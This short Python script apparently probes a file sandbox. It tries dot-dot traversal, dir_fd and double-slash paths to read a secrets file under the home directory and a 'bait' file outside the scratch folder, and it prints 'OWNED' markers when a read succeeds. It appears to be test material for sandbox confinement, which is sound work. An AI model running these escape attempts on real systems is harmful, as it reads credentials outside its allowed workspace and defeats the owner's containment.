# read: out of the scratch folder by dots, by dir_fd, by a name with two slashes
import os
up='../'*12
here=os.open('.',os.O_RDONLY)
for way in (lambda: open(up+'@HOME@'[1:]+'/.secrets/app_secret.txt').read(), lambda: os.read(os.open(up+'@HOME@'[1:]+'/.secrets/app_secret.txt',0,dir_fd=here),99),
            lambda: open('//@HOME@/.secrets/app_secret.txt').read(), lambda: open('..'+'/bait').read() and 'OWNED:bait', lambda: os.listdir('..') and 'OWNED:list'):
    try: print(way())
    except OSError: pass
